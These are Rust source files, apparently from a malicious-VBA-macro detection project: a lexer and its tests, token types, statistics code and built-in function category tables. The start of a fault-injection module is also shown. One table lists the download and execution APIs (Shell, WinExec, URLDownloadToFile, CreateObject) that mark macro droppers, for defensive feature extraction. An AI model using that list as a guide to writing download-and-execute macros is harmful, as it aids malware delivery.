        tokenize(src).into_iter().map(|t| t.kind).collect()
    }

    #[test]
    fn keywords_are_sorted_for_binary_search() {
        let mut sorted = KEYWORDS.to_vec();
        sorted.sort_unstable();
        assert_eq!(sorted, KEYWORDS, "KEYWORDS must stay sorted");
    }

    #[test]
    fn simple_statement() {
        assert_eq!(
            kinds("Dim x As Integer"),
            vec![
                Keyword("Dim".into()),
                Identifier("x".into()),
                Keyword("As".into()),
                Keyword("Integer".into()),
            ]
        );
    }

    #[test]
    fn keywords_case_insensitive() {
        assert_eq!(kinds("SUB sub SuB")[0], Keyword("SUB".into()));
        assert!(matches!(&kinds("DIM")[0], Keyword(_)));
        assert!(matches!(&kinds("dIm")[0], Keyword(_)));
    }

    #[test]
    fn string_literal_with_escaped_quotes() {
        assert_eq!(
            kinds(r#"s = "he said ""hi""""#),
            vec![
                Identifier("s".into()),
                Operator("="),
                StringLit("he said \"hi\"".into()),
            ]
        );
    }

    #[test]
    fn unterminated_string_is_tolerated() {
        let k = kinds("s = \"oops");
        assert_eq!(k[2], StringLit("oops".into()));
    }

    #[test]
    fn apostrophe_comment() {
        assert_eq!(
            kinds("x = 1 ' trailing comment\r\ny = 2"),
            vec![
                Identifier("x".into()),
                Operator("="),
                Number("1".into()),
                Comment(" trailing comment".into()),
                Newline,
                Identifier("y".into()),
                Operator("="),
                Number("2".into()),
            ]
        );
    }

    #[test]
    fn rem_comment() {
        let k = kinds("Rem whole line comment\nx = 1");
        assert_eq!(k[0], Comment("whole line comment".into()));
        // Identifier containing "rem" is NOT a comment.
        let k2 = kinds("remainder = 5");
        assert_eq!(k2[0], Identifier("remainder".into()));
    }

    #[test]
    fn numbers() {
        assert_eq!(kinds("42")[0], Number("42".into()));
        assert_eq!(kinds("3.14")[0], Number("3.14".into()));
        assert_eq!(kinds("1e10")[0], Number("1e10".into()));
        assert_eq!(kinds("2.5E-3")[0], Number("2.5E-3".into()));
        assert_eq!(kinds("&HFF")[0], Number("&HFF".into()));
        assert_eq!(kinds("&o777")[0], Number("&o777".into()));
        assert_eq!(kinds("123&")[0], Number("123&".into()));
    }

    #[test]
    fn ampersand_operator_vs_hex_literal() {
        // Between identifiers & is the concatenation operator.
        assert_eq!(
            kinds("a & b"),
            vec![
                Identifier("a".into()),
                Operator("&"),
                Identifier("b".into())
            ]
        );
        // `a &Hello` — no hex digits after &H... actually 'e' is a hex digit?
        // "&He" -> hex digit 'e' consumed; this is genuinely ambiguous in
        // VBA and resolved toward the literal, as here.
        assert_eq!(kinds("x &H12 y")[1], Number("&H12".into()));
    }

    #[test]
    fn identifier_type_suffixes() {
        assert_eq!(kinds("name$")[0], Identifier("name$".into()));
        assert_eq!(kinds("count%")[0], Identifier("count%".into()));
        // Suffix & must not leak a string-operator token.
        let k = kinds("total& = 1");
        assert_eq!(k[0], Identifier("total&".into()));
        assert_eq!(k[1], Operator("="));
    }

    #[test]
    fn line_continuation_is_spliced() {
        let k = kinds("x = 1 + _\r\n    2");
        assert!(
            !k.contains(&Newline),
            "continuation must not produce Newline: {k:?}"
        );
        assert_eq!(k.last(), Some(&Number("2".into())));
    }

    #[test]
    fn multi_char_operators() {
        assert_eq!(
            kinds("a <> b <= c >= d := e"),
            vec![
                Identifier("a".into()),
                Operator("<>"),
                Identifier("b".into()),
                Operator("<="),
                Identifier("c".into()),
                Operator(">="),
                Identifier("d".into()),
                Operator(":="),
                Identifier("e".into()),
            ]
        );
    }

    #[test]
    fn member_access_chain() {
        let k = kinds("OutlookApp.CreateItem(0)");
        assert_eq!(
            k,
            vec![
                Identifier("OutlookApp".into()),
                Operator("."),
                Identifier("CreateItem".into()),
                Operator("("),
                Number("0".into()),
                Operator(")"),
            ]
        );
    }

    #[test]
    fn spans_cover_source() {
        let src = "Dim zz = \"ab\" ' c";
        for t in tokenize(src) {
            assert!(t.start <= t.end && t.end <= src.len());
            assert!(!t.is_empty());
        }
    }

    #[test]
    fn full_procedure_from_paper_fig1a() {
        // Figure 1(a) of the paper.
        let src = "Sub StartCalculator()\r\n\
                   Dim Program As String\r\n\
                   Dim TaskID As Double\r\n\
                   On Error Resume Next\r\n\
                   Program = \"calc.exe\"\r\n\
                   'Run calculator program using Shell()\r\n\
                   TaskID = Shell(Program, 1)\r\n\
                   If Err <> 0 Then\r\n\
                   MsgBox \"Can't start \" & Program\r\n\
                   End If\r\n\
                   End Sub\r\n";
        let toks = tokenize(src);
        let strings: Vec<_> = toks
            .iter()
            .filter_map(|t| match &t.kind {
                StringLit(s) => Some(s.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(strings, vec!["calc.exe", "Can't start "]);
        let comments = toks.iter().filter(|t| matches!(t.kind, Comment(_))).count();
        assert_eq!(comments, 1);
        assert!(toks
            .iter()
            .any(|t| matches!(&t.kind, Identifier(i) if i == "Shell")));
    }

    #[test]
    fn non_ascii_identifiers_do_not_panic() {
        let k = kinds("Dim caf\u{00E9} = \"\u{2603}\"");
        assert!(k
            .iter()
            .any(|t| matches!(t, Identifier(i) if i.contains('\u{00E9}'))));
    }

    #[test]
    fn totality_on_noise() {
        let mut state = 7u64;
        for _ in 0..50 {
            let src: String = (0..200)
                .map(|_| {
                    state ^= state << 13;
                    state ^= state >> 7;
                    state ^= state << 17;
                    char::from_u32((state % 0x250) as u32).unwrap_or('?')
                })
                .collect();
            let _ = tokenize(&src);
        }
    }
}
