//! Lexical analysis of VBA macro source code.
//!
//! The paper's 15 proposed features (V1–V15) and the 20 comparison features
//! (J1–J20) are all *lexical*: identifier lengths, string statistics,
//! operator frequencies, function-call category ratios, comment/code splits.
//! This crate provides the tokenizer and token-stream views those extractors
//! are built on, plus the VBA built-in-function category tables from the
//! language specification (used by features V8–V12).
//!
//! # Examples
//!
//! ```
//! use vbadet_vba::{tokenize, TokenKind};
//!
//! let tokens = tokenize("Sub Go()\r\n    x = Chr(65) & \"BC\" 'comment\r\nEnd Sub");
//! assert!(tokens.iter().any(|t| matches!(&t.kind, TokenKind::StringLit(s) if s == "BC")));
//! assert!(tokens.iter().any(|t| matches!(&t.kind, TokenKind::Comment(c) if c == "comment")));
//! ```

pub mod analysis;
pub mod functions;
mod lexer;
mod stats;
mod token;

pub use analysis::{LexScratch, MacroAnalysis};
pub use functions::FunctionCategory;
#[cfg(any(test, feature = "reference"))]
pub use lexer::reference_tokenize;
pub use lexer::tokenize;
pub use stats::SourceStats;
pub use token::{SpanKind, SpanToken, Token, TokenKind};
