//! Token types produced by the lexer.

/// Kind and payload of a lexical token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TokenKind {
    /// An identifier (variable, procedure or builtin name). A trailing type
    /// suffix character (`$ % & ! # @`) is absorbed into the identifier,
    /// matching VBA's declaration syntax (`name$`).
    Identifier(String),
    /// A reserved word (`Sub`, `Dim`, `If`, …), stored as written.
    Keyword(String),
    /// A string literal, without quotes; embedded `""` pairs are decoded.
    StringLit(String),
    /// A numeric literal (decimal, float, `&H` hex or `&O` octal), as written.
    Number(String),
    /// A comment introduced by `'` or `Rem`, without the marker.
    Comment(String),
    /// An operator or punctuation mark (`&`, `+`, `<=`, `(`, …).
    Operator(&'static str),
    /// A physical end of line (line continuations are spliced, so a
    /// continued logical line yields no `Newline`).
    Newline,
}

/// One token with its byte span in the source.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Token {
    /// What was recognized.
    pub kind: TokenKind,
    /// Byte offset of the first byte of the token.
    pub start: usize,
    /// Byte offset one past the last byte.
    pub end: usize,
}

impl Token {
    /// The token's source length in bytes.
    pub fn len(&self) -> usize {
        self.end - self.start
    }

    /// Whether the token covers no bytes (never true for lexer output).
    pub fn is_empty(&self) -> bool {
        self.start == self.end
    }
}

/// Payload-free token tag for the borrowed span lexer backing
/// [`MacroAnalysis`](crate::MacroAnalysis): the text of a token is the
/// source slice at its span, so no owned `String` is materialized.
/// String-literal values and trimmed comment bodies (the two cases where
/// the payload is not the exact span) live in side tables indexed here.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SpanKind {
    /// An identifier; the span includes any absorbed type suffix.
    Identifier,
    /// A reserved word, exactly as written in the span.
    Keyword,
    /// A numeric literal, exactly as written in the span.
    Number,
    /// A string literal; payload index into the analysis string table.
    StringLit(u32),
    /// A comment; payload index into the analysis comment table.
    Comment(u32),
    /// An operator or punctuation mark.
    Operator(&'static str),
    /// A physical end of line (continuations are spliced).
    Newline,
}

/// One span token: kind tag plus byte *and* character positions, so
/// consumers can count characters of any token-bounded region (procedure
/// bodies, identifiers, comment spans) without re-walking the source.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SpanToken {
    /// What was recognized.
    pub kind: SpanKind,
    /// Byte offset of the first byte of the token.
    pub start: usize,
    /// Byte offset one past the last byte.
    pub end: usize,
    /// Character offset of the first character.
    pub char_start: usize,
    /// Character offset one past the last character.
    pub char_end: usize,
}

impl SpanToken {
    /// The token's source length in characters.
    pub fn char_len(&self) -> usize {
        self.char_end - self.char_start
    }
}
