//! Token types produced by the lexer.

/// Kind and payload of a lexical token.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TokenKind {
    /// An identifier (variable, procedure or builtin name). A trailing type
    /// suffix character (`$ % & ! # @`) is absorbed into the identifier,
    /// matching VBA's declaration syntax (`name$`).
    Identifier(String),
    /// A reserved word (`Sub`, `Dim`, `If`, …), stored as written.
    Keyword(String),
    /// A string literal, without quotes; embedded `""` pairs are decoded.
    StringLit(String),
    /// A numeric literal (decimal, float, `&H` hex or `&O` octal), as written.
    Number(String),
    /// A comment introduced by `'` or `Rem`, without the marker.
    Comment(String),
    /// An operator or punctuation mark (`&`, `+`, `<=`, `(`, …).
    Operator(&'static str),
    /// A physical end of line (line continuations are spliced, so a
    /// continued logical line yields no `Newline`).
    Newline,
}

/// One token with its byte span in the source.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Token {
    /// What was recognized.
    pub kind: TokenKind,
    /// Byte offset of the first byte of the token.
    pub start: usize,
    /// Byte offset one past the last byte.
    pub end: usize,
}

impl Token {
    /// The token's source length in bytes.
    pub fn len(&self) -> usize {
        self.end - self.start
    }

    /// Whether the token covers no bytes (never true for lexer output).
    pub fn is_empty(&self) -> bool {
        self.start == self.end
    }
}
