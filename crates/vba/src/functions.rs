//! VBA built-in function category tables (MS-VBAL standard library).
//!
//! These drive features V8–V12 of the paper (§IV.C.3): the proportion of
//! text, arithmetic, type-conversion, financial and "rich functionality"
//! function calls is discriminative for encoding obfuscation (O3).

/// The paper's five function categories.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FunctionCategory {
    /// V8: text/string manipulation (`Asc`, `Chr`, `Mid`, `Replace`, …).
    Text,
    /// V9: arithmetic (`Abs`, `Cos`, `Exp`, `Sqr`, …).
    Arithmetic,
    /// V10: type conversion (`CBool`, `CStr`, `Hex`, `Val`, …).
    TypeConversion,
    /// V11: financial (`DDB`, `FV`, `Pmt`, `Rate`, …).
    Financial,
    /// V12: rich functionality able to write, download or execute
    /// (`Shell`, `CreateObject`, `CallByName`, …).
    Rich,
}

/// V8 — text functions (lowercase).
pub const TEXT_FUNCTIONS: &[&str] = &[
    "asc",
    "ascb",
    "ascw",
    "chr",
    "chrb",
    "chrw",
    "filter",
    "format",
    "instr",
    "instrb",
    "instrrev",
    "join",
    "lcase",
    "left",
    "leftb",
    "len",
    "lenb",
    "ltrim",
    "mid",
    "midb",
    "monthname",
    "replace",
    "right",
    "rightb",
    "rtrim",
    "space",
    "split",
    "strcomp",
    "strconv",
    "strreverse",
    "trim",
    "ucase",
    "weekdayname",
];

/// V9 — arithmetic functions (lowercase). `Randomize` is lexed as a keyword
/// in strict VBA grammars but commonly appears as a call; both count.
pub const ARITHMETIC_FUNCTIONS: &[&str] = &[
    "abs",
    "atn",
    "cos",
    "exp",
    "fix",
    "int",
    "log",
    "randomize",
    "rnd",
    "round",
    "sgn",
    "sin",
    "sqr",
    "tan",
];

/// V10 — type conversion functions (lowercase).
pub const CONVERSION_FUNCTIONS: &[&str] = &[
    "cbool", "cbyte", "ccur", "cdate", "cdbl", "cdec", "cint", "clng", "clnglng", "clngptr",
    "csng", "cstr", "cvar", "cvdate", "cverr", "hex", "oct", "str", "val",
];

/// V11 — financial functions (lowercase).
pub const FINANCIAL_FUNCTIONS: &[&str] = &[
    "ddb", "fv", "ipmt", "irr", "mirr", "nper", "npv", "pmt", "ppmt", "pv", "rate", "sln", "syd",
];

/// V12 — functions with rich functionality: able to run programs, touch the
/// filesystem, instantiate COM objects or evaluate code. The list merges the
/// paper's examples with the Win32 imports ubiquitous in macro droppers.
pub const RICH_FUNCTIONS: &[&str] = &[
    "callbyname",
    "chdir",
    "chdrive",
    "createobject",
    "createprocess",
    "createprocessa",
    "createthread",
    "dir",
    "environ",
    "eval",
    "exec",
    "executeexcel4macro",
    "filecopy",
    "getobject",
    "kill",
    "mkdir",
    "rmdir",
    "run",
    "savetofile",
    "sendkeys",
    "setattr",
    "shell",
    "shellexecute",
    "shellexecutea",
    "urldownloadtofile",
    "urldownloadtofilea",
    "winexec",
];

/// Looks up the category of a (case-insensitive) function name.
///
/// ```
/// use vbadet_vba::{functions, FunctionCategory};
/// assert_eq!(functions::categorize("Chr"), Some(FunctionCategory::Text));
/// assert_eq!(functions::categorize("SHELL"), Some(FunctionCategory::Rich));
/// assert_eq!(functions::categorize("MyHelper"), None);
/// ```
pub fn categorize(name: &str) -> Option<FunctionCategory> {
    // The tables are lowercase and sorted; folding the probe byte-wise
    // during the comparison gives the same ordering as lowercasing the
    // name up front, without allocating the lowercase copy.
    let stripped = name.trim_end_matches(['$', '%', '&', '!', '#', '@']);
    let search = |table: &[&str]| {
        table
            .binary_search_by(|entry| crate::lexer::cmp_ascii_fold(entry, stripped))
            .is_ok()
    };
    if search(TEXT_FUNCTIONS) {
        Some(FunctionCategory::Text)
    } else if search(ARITHMETIC_FUNCTIONS) {
        Some(FunctionCategory::Arithmetic)
    } else if search(CONVERSION_FUNCTIONS) {
        Some(FunctionCategory::TypeConversion)
    } else if search(FINANCIAL_FUNCTIONS) {
        Some(FunctionCategory::Financial)
    } else if search(RICH_FUNCTIONS) {
        Some(FunctionCategory::Rich)
    } else {
        None
    }
}

/// Whether `name` is any known built-in (used by call-site detection for
/// paren-less statement calls like `Shell prog, 1`).
pub fn is_builtin(name: &str) -> bool {
    categorize(name).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tables_are_sorted_for_binary_search() {
        for table in [
            TEXT_FUNCTIONS,
            ARITHMETIC_FUNCTIONS,
            CONVERSION_FUNCTIONS,
            FINANCIAL_FUNCTIONS,
            RICH_FUNCTIONS,
        ] {
            let mut sorted = table.to_vec();
            sorted.sort_unstable();
            assert_eq!(sorted, table);
        }
    }

    #[test]
    fn tables_are_disjoint() {
        use std::collections::HashSet;
        let mut seen: HashSet<&str> = HashSet::new();
        for table in [
            TEXT_FUNCTIONS,
            ARITHMETIC_FUNCTIONS,
            CONVERSION_FUNCTIONS,
            FINANCIAL_FUNCTIONS,
            RICH_FUNCTIONS,
        ] {
            for name in table {
                assert!(seen.insert(name), "{name} appears in two categories");
            }
        }
    }

    #[test]
    fn paper_examples_are_categorized() {
        // §IV.C.3 lists representative members of each category.
        for f in [
            "Asc", "Chr", "Mid", "Join", "InStr", "Replace", "Right", "StrConv",
        ] {
            assert_eq!(categorize(f), Some(FunctionCategory::Text), "{f}");
        }
        for f in [
            "Abs",
            "Atn",
            "Cos",
            "Exp",
            "Log",
            "Randomize",
            "Round",
            "Tan",
            "Sqr",
        ] {
            assert_eq!(categorize(f), Some(FunctionCategory::Arithmetic), "{f}");
        }
        for f in ["CBool", "CByte", "CStr", "CDec"] {
            assert_eq!(categorize(f), Some(FunctionCategory::TypeConversion), "{f}");
        }
        for f in ["DDB", "FV", "IPmt", "PV", "Pmt", "Rate", "SLN", "SYD"] {
            assert_eq!(categorize(f), Some(FunctionCategory::Financial), "{f}");
        }
        for f in ["Shell", "CallByName", "CreateObject", "URLDownloadToFile"] {
            assert_eq!(categorize(f), Some(FunctionCategory::Rich), "{f}");
        }
    }

    #[test]
    fn type_suffix_is_ignored() {
        assert_eq!(categorize("Chr$"), Some(FunctionCategory::Text));
        assert_eq!(categorize("Hex$"), Some(FunctionCategory::TypeConversion));
    }

    #[test]
    fn unknown_names() {
        assert_eq!(categorize("FooBar"), None);
        assert!(!is_builtin("decodeBase64"));
        assert!(is_builtin("shell"));
    }
}
