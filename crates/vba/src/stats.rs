//! Per-character statistics accumulated during the lexer's single pass.
//!
//! The feature extractors (J1–J20, V1–V15) historically re-walked the
//! source once per feature: `chars().count()` for J1, a whitespace filter
//! for J6, a `BTreeMap` rebuild for the entropy of J15/V13, a
//! `collect::<Vec<String>>` for the word statistics of V3/V4, and so on.
//! [`SourceStats`] replaces all of those with counters fed exactly once
//! per character while the lexer is already looking at it.
//!
//! Equivalence with the old multi-pass computation is bit-level: every
//! floating-point quantity that the extractors derive from these counters
//! is accumulated in the same order the reference code iterated
//! (document order for word lengths, token order for string lengths,
//! ascending character order for the entropy histogram), so the fused
//! path reproduces the exact `f64` bit patterns of the original.

use std::collections::BTreeMap;

/// In-flight state of one "word": a maximal run of alphanumeric or `_`
/// characters outside comments and string literals (paper §IV.C.4), plus
/// the incremental human-readability predicate of J5 (alphabetic, 2–15
/// bytes, contains a vowel, no consonant run longer than 4).
#[derive(Debug, Clone, Copy, Default)]
pub(crate) struct WordRun {
    active: bool,
    char_len: usize,
    byte_len: usize,
    all_alpha: bool,
    has_vowel: bool,
    cons_run: usize,
    runs_ok: bool,
}

impl WordRun {
    #[inline]
    fn feed(&mut self, c: char) {
        if !self.active {
            *self = WordRun {
                active: true,
                all_alpha: true,
                runs_ok: true,
                ..WordRun::default()
            };
        }
        self.char_len += 1;
        self.byte_len += c.len_utf8();
        if c.is_ascii_alphabetic() {
            if matches!(c.to_ascii_lowercase(), 'a' | 'e' | 'i' | 'o' | 'u') {
                self.has_vowel = true;
                self.cons_run = 0;
            } else {
                self.cons_run += 1;
                if self.cons_run > 4 {
                    self.runs_ok = false;
                }
            }
        } else {
            self.all_alpha = false;
        }
    }

    #[inline]
    fn is_readable(&self) -> bool {
        self.byte_len >= 2
            && self.byte_len <= 15
            && self.all_alpha
            && self.has_vowel
            && self.runs_ok
    }
}

#[inline]
fn is_word_char(c: char) -> bool {
    c.is_alphanumeric() || c == '_'
}

/// Character-level statistics of one macro source, filled by the lexer in
/// the same pass that produces the token stream.
///
/// Fields are documented with the features they back; "words" follow the
/// paper's definition (runs of alphanumeric/`_` outside comments and
/// strings), "lines" follow `str::lines` semantics.
#[derive(Debug, Clone)]
pub struct SourceStats {
    /// Total characters (`== source.chars().count()`; J1).
    pub char_len: usize,
    /// Unicode-whitespace characters (J6).
    pub whitespace: usize,
    /// Backslash characters (J17).
    pub backslashes: usize,
    /// Physical lines, `str::lines` semantics (J2/J3/J11/J14).
    pub line_count: usize,
    /// Lines longer than 150 characters (J14).
    pub long_lines: usize,
    /// Words outside comments and strings (J12/J13).
    pub code_words: usize,
    /// Words inside comment bodies (J5/J12/J13).
    pub comment_words: usize,
    /// Human-readable words across code and comments (J5).
    pub readable_words: usize,
    /// Character length of every code word, in document order (V3/V4).
    pub word_lengths: Vec<f64>,
    /// Decoded string-literal char lengths summed as sequential `f64`
    /// adds in token order — the exact accumulation `mean()` performed
    /// over the old owned-`String` vector (J8/V7).
    pub string_len_sum: f64,
    /// Total decoded string-literal characters (J16/V6).
    pub string_chars: usize,
    /// Total trimmed comment-body characters (V2).
    pub comment_body_chars: usize,
    /// Total full comment-span characters, marker included (V1).
    pub comment_span_chars: usize,

    // Entropy histogram: dense ASCII lane plus an ordered map for the
    // (rare) rest. Iterating ASCII ascending then the map ascending
    // reproduces the old full-`BTreeMap` term order exactly.
    ascii_counts: [u64; 128],
    other_counts: BTreeMap<char, u64>,

    // Lexer-pass machines (meaningless after `finish`).
    code_run: WordRun,
    comment_run: WordRun,
    cur_line_chars: usize,
    last_was_cr: bool,
}

impl Default for SourceStats {
    fn default() -> Self {
        SourceStats {
            char_len: 0,
            whitespace: 0,
            backslashes: 0,
            line_count: 0,
            long_lines: 0,
            code_words: 0,
            comment_words: 0,
            readable_words: 0,
            word_lengths: Vec::new(),
            string_len_sum: 0.0,
            string_chars: 0,
            comment_body_chars: 0,
            comment_span_chars: 0,
            ascii_counts: [0; 128],
            other_counts: BTreeMap::new(),
            code_run: WordRun::default(),
            comment_run: WordRun::default(),
            cur_line_chars: 0,
            last_was_cr: false,
        }
    }
}

impl SourceStats {
    /// Clears all counters while keeping `word_lengths` capacity.
    pub(crate) fn reset(&mut self) {
        let mut word_lengths = std::mem::take(&mut self.word_lengths);
        word_lengths.clear();
        *self = SourceStats {
            word_lengths,
            ..SourceStats::default()
        };
    }

    /// One call per source character, in order. `masked` is true inside
    /// comment and string-literal token spans (marker/quotes included),
    /// mirroring the span mask the old `words()` view applied.
    #[inline]
    pub(crate) fn visit(&mut self, c: char, masked: bool) {
        self.char_len += 1;
        if c.is_whitespace() {
            self.whitespace += 1;
        }
        if c == '\\' {
            self.backslashes += 1;
        }
        let u = c as u32;
        if u < 128 {
            self.ascii_counts[u as usize] += 1;
        } else {
            *self.other_counts.entry(c).or_insert(0) += 1;
        }
        // Line machine: `str::lines` counts a line per '\n' (stripping one
        // '\r' before it) plus a final unterminated line if non-empty.
        if c == '\n' {
            let len = self.cur_line_chars - usize::from(self.last_was_cr);
            if len > 150 {
                self.long_lines += 1;
            }
            self.line_count += 1;
            self.cur_line_chars = 0;
        } else {
            self.cur_line_chars += 1;
        }
        self.last_was_cr = c == '\r';
        // Code-word machine.
        if masked || !is_word_char(c) {
            self.flush_code_word();
        } else {
            self.code_run.feed(c);
        }
    }

    /// Additionally routes a comment-body character through the
    /// comment-word machine (call after `visit(c, true)`).
    #[inline]
    pub(crate) fn visit_comment_word(&mut self, c: char) {
        if is_word_char(c) {
            self.comment_run.feed(c);
        } else {
            self.flush_comment_word();
        }
    }

    /// Ends the current comment-body word run. The lexer calls this at
    /// every comment terminator so a run can never merge with the first
    /// word of the *next* comment (e.g. `'t` directly followed on the
    /// next line by `'rai` is two words, not `trai`).
    #[inline]
    pub(crate) fn end_comment_word(&mut self) {
        self.flush_comment_word();
    }

    /// Word-machine snapshot taken before scanning an identifier, so a
    /// `Rem` comment can rewind the characters it fed speculatively.
    #[inline]
    pub(crate) fn word_snapshot(&self) -> WordRun {
        self.code_run
    }

    #[inline]
    pub(crate) fn word_rewind(&mut self, snap: WordRun) {
        self.code_run = snap;
    }

    fn flush_code_word(&mut self) {
        if self.code_run.active {
            self.code_words += 1;
            self.word_lengths.push(self.code_run.char_len as f64);
            if self.code_run.is_readable() {
                self.readable_words += 1;
            }
            self.code_run.active = false;
        }
    }

    fn flush_comment_word(&mut self) {
        if self.comment_run.active {
            self.comment_words += 1;
            if self.comment_run.is_readable() {
                self.readable_words += 1;
            }
            self.comment_run.active = false;
        }
    }

    /// Flushes open word runs and the final unterminated line.
    pub(crate) fn finish(&mut self) {
        self.flush_code_word();
        self.flush_comment_word();
        if self.cur_line_chars > 0 {
            self.line_count += 1;
            if self.cur_line_chars > 150 {
                self.long_lines += 1;
            }
        }
    }

    /// Non-zero character counts in ascending character order — the exact
    /// term sequence the old `BTreeMap<char, u64>` entropy sum iterated.
    pub fn char_counts(&self) -> impl Iterator<Item = u64> + '_ {
        self.ascii_counts
            .iter()
            .copied()
            .filter(|&n| n > 0)
            .chain(self.other_counts.values().copied())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(source: &str) -> SourceStats {
        // Feed every char unmasked: enough to exercise the char-level
        // machines (word/line equivalence under masking is covered by the
        // lexer and analysis tests).
        let mut s = SourceStats::default();
        for c in source.chars() {
            s.visit(c, false);
        }
        s.finish();
        s
    }

    #[test]
    fn char_line_and_word_counts() {
        let s = run("ab cd\r\nxy\n");
        assert_eq!(s.char_len, 10);
        assert_eq!(s.line_count, 2);
        assert_eq!(s.code_words, 3);
        assert_eq!(s.word_lengths, vec![2.0, 2.0, 2.0]);
    }

    #[test]
    fn lines_match_str_lines_semantics() {
        for src in ["", "a", "a\n", "a\nb", "\n", "a\r\nb\r", "x\n\r"] {
            let s = run(src);
            assert_eq!(s.line_count, src.lines().count(), "{src:?}");
        }
    }

    #[test]
    fn long_line_detection_strips_cr() {
        let line = "a".repeat(151);
        assert_eq!(run(&format!("{line}\r\n")).long_lines, 1);
        let line150 = "a".repeat(150);
        assert_eq!(run(&format!("{line150}\r\n")).long_lines, 0);
    }

    #[test]
    fn entropy_counts_ascending() {
        let s = run("ba\u{2603}ab");
        let counts: Vec<u64> = s.char_counts().collect();
        // 'a' x2, 'b' x2, snowman x1 — ascending char order.
        assert_eq!(counts, vec![2, 2, 1]);
    }

    #[test]
    fn readability_matches_reference_predicate() {
        fn reference(word: &str) -> bool {
            if word.len() < 2 || word.len() > 15 || !word.chars().all(|c| c.is_ascii_alphabetic()) {
                return false;
            }
            let lower = word.to_ascii_lowercase();
            let is_vowel = |c: char| matches!(c, 'a' | 'e' | 'i' | 'o' | 'u');
            if !lower.chars().any(is_vowel) {
                return false;
            }
            let mut run = 0usize;
            for c in lower.chars() {
                if is_vowel(c) {
                    run = 0;
                } else {
                    run += 1;
                    if run > 4 {
                        return false;
                    }
                }
            }
            true
        }
        for w in [
            "hello",
            "Program",
            "counter",
            "open",
            "a",
            "x1b2",
            "xqzptvk",
            "ueiwjfdjkfdsv",
            "abcdefghijklmnop",
            "caf\u{e9}",
            "_x",
            "strength",
        ] {
            let mut r = WordRun::default();
            for c in w.chars() {
                r.feed(c);
            }
            assert_eq!(r.is_readable(), reference(w), "{w:?}");
        }
    }
}
