//! Property-based tests for the lexer: totality, span sanity, and
//! recognition invariants.

use proptest::prelude::*;
use vbadet_vba::{tokenize, MacroAnalysis, TokenKind};

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    /// The lexer is total on arbitrary unicode text.
    #[test]
    fn lexer_total(src in "\\PC{0,2000}") {
        let _ = tokenize(&src);
    }

    /// Spans are monotone, in-bounds, non-empty, and lie on char boundaries.
    #[test]
    fn spans_are_sane(src in "[ -~\r\n\t\u{00e9}\u{2603}]{0,800}") {
        let tokens = tokenize(&src);
        let mut prev_end = 0usize;
        for t in &tokens {
            prop_assert!(t.start >= prev_end, "overlapping spans");
            prop_assert!(t.end <= src.len());
            prop_assert!(t.start < t.end, "empty token");
            prop_assert!(src.is_char_boundary(t.start) && src.is_char_boundary(t.end));
            prev_end = t.end;
        }
    }

    /// A quoted literal with doubled quotes decodes to the raw value.
    #[test]
    fn string_literals_roundtrip(value in "[ -~&&[^\"]]{0,60}") {
        let src = format!("x = \"{value}\"");
        let tokens = tokenize(&src);
        let found = tokens.iter().find_map(|t| match &t.kind {
            TokenKind::StringLit(s) => Some(s.clone()),
            _ => None,
        });
        prop_assert_eq!(found, Some(value));
    }

    /// Escaped quotes decode to exactly one quote character.
    #[test]
    fn escaped_quotes(before in "[a-z ]{0,20}", after in "[a-z ]{0,20}") {
        let src = format!("x = \"{before}\"\"{after}\"");
        let tokens = tokenize(&src);
        let found = tokens.iter().find_map(|t| match &t.kind {
            TokenKind::StringLit(s) => Some(s.clone()),
            _ => None,
        });
        prop_assert_eq!(found, Some(format!("{before}\"{after}")));
    }

    /// Comments never leak tokens: everything after `'` on a line is one
    /// comment token.
    #[test]
    fn comments_swallow_line(code in "[a-z0-9 =+]{0,30}", note in "[ -~&&[^\r\n]]{0,60}") {
        let src = format!("{code}' {note}\r\nnext_line = 1");
        let tokens = tokenize(&src);
        let comments: Vec<&str> = tokens.iter().filter_map(|t| match &t.kind {
            TokenKind::Comment(c) => Some(c.as_str()),
            _ => None,
        }).collect();
        prop_assert_eq!(comments.len(), 1);
        // The comment body preserves the note verbatim (including trailing
        // spaces); compare with both sides' trailing whitespace normalized.
        prop_assert!(comments[0].trim_end().ends_with(note.trim_end()));
    }

    /// Identifier token text matches the identifier grammar.
    #[test]
    fn identifier_shape(src in "[A-Za-z0-9_ (),.\"\r\n]{0,500}") {
        for t in tokenize(&src) {
            if let TokenKind::Identifier(name) = &t.kind {
                let mut chars = name.chars();
                let first = chars.next().expect("non-empty");
                prop_assert!(first.is_alphabetic() || first == '_', "{name}");
            }
        }
    }

    /// MacroAnalysis views are consistent with the token stream.
    #[test]
    fn analysis_consistent(src in "[ -~\r\n]{0,1000}") {
        let a = MacroAnalysis::new(&src);
        prop_assert_eq!(a.char_len(), src.chars().count());
        prop_assert!(a.comment_chars() <= a.char_len());
        prop_assert!(a.code_chars() <= a.char_len());
        prop_assert_eq!(
            a.strings().len(),
            a.tokens().iter().filter(|t| matches!(t.kind, vbadet_vba::SpanKind::StringLit(_))).count()
        );
    }
}
