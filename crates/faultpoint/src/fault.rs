//! Deterministic fault injection (the classic failpoints pattern).
//!
//! A *site* is a named point in the code marked with [`faultpoint!`]. In
//! production builds (feature `faultpoints` disabled) a site is an inlined
//! `None` and vanishes from optimized code. With the feature enabled each
//! site consults a process-global registry and performs the configured
//! *action*:
//!
//! | Spec | Effect at the site |
//! |---|---|
//! | `off` | nothing |
//! | `panic` / `panic(msg)` | `panic!` with the message |
//! | `sleep(ms)` | block the thread for `ms` milliseconds (a simulated stall) |
//! | `return` / `return(arg)` | [`fire`] yields `Some(arg)`; the two-arm form of [`faultpoint!`] early-returns |
//! | `abort` | `std::process::abort()` — kills the process without unwinding (SIGABRT), for exercising supervisors that must survive worker death |
//!
//! Two modifiers compose with any action:
//!
//! - `@N` — arm the site from its `N`th hit onward (1-based), e.g.
//!   `panic@5` kills on the fifth pass. Hits are counted per site. An
